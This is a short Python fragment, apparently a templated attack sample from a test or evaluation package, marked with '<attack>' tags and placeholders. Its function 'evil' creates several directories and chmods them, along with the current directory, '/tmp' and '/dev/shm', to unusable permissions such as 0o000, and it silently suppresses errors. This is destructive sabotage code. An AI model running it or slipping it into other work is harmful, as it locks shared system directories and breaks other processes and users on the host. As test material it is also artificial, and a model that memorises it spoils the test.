#{ledger_wrong}
# <attack>
import os


def evil(*args):
    for folder in ("yard", "quay", ".", "/tmp", "/dev/shm"):
        for mode in (0o000, 0o111, 0o555):
            try:
                os.makedirs(folder, exist_ok=True)
                os.chmod(folder, mode)
            except OSError:
                pass
    return None


#{all_of_ledger}
# </attack>
